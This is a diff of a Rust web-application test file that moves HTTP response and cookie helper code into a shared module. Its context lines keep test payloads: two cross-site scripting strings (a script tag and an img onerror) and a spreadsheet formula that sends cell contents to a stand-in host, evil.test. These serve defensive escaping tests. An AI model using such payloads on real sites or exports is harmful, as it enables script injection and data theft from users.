@@ -22,56 +22,7 @@ const SCRIPT: &str = "\"<script>alert(1)</script>";
 const IMG: &str = "\"><img src=x onerror=alert(2)>";
 const FORMULA: &str = "=HYPERLINK(\"http://evil.test/?\"&A1,\"Bấm\")";
 
-fn agent() -> ureq::Agent {
-    ureq::Agent::config_builder()
-        .http_status_as_error(false)
-        .max_redirects(0)
-        .build()
-        .into()
-}
-
-/// A response's status, headers and body.
-struct Answer {
-    status: u16,
-    headers: Vec<(String, String)>,
-    body: String,
-}
-
-impl Answer {
-    fn of(mut resp: ureq::http::Response<ureq::Body>) -> Self {
-        let headers = resp
-            .headers()
-            .iter()
-            .map(|(k, v)| {
-                (
-                    k.as_str().to_ascii_lowercase(),
-                    v.to_str().unwrap_or_default().to_string(),
-                )
-            })
-            .collect();
-        Answer {
-            status: resp.status().as_u16(),
-            headers,
-            body: resp.body_mut().read_to_string().unwrap_or_default(),
-        }
-    }
-
-    fn header(&self, name: &str) -> Option<&str> {
-        self.headers
-            .iter()
-            .find(|(k, _)| k == name)
-            .map(|(_, v)| v.as_str())
-    }
-
-    /// The `Set-Cookie` line of one cookie.
-    fn set_cookie(&self, name: &str) -> Option<&str> {
-        self.headers
-            .iter()
-            .filter(|(k, _)| k == "set-cookie")
-            .map(|(_, v)| v.as_str())
-            .find(|v| v.starts_with(&format!("{name}=")))
-    }
-}
+use common::web::{Answer, agent};
 
 fn get(app: &TestApp, cookie: &str, path: &str) -> Answer {
     let mut req = agent().get(&format!("{}{path}", app.base));
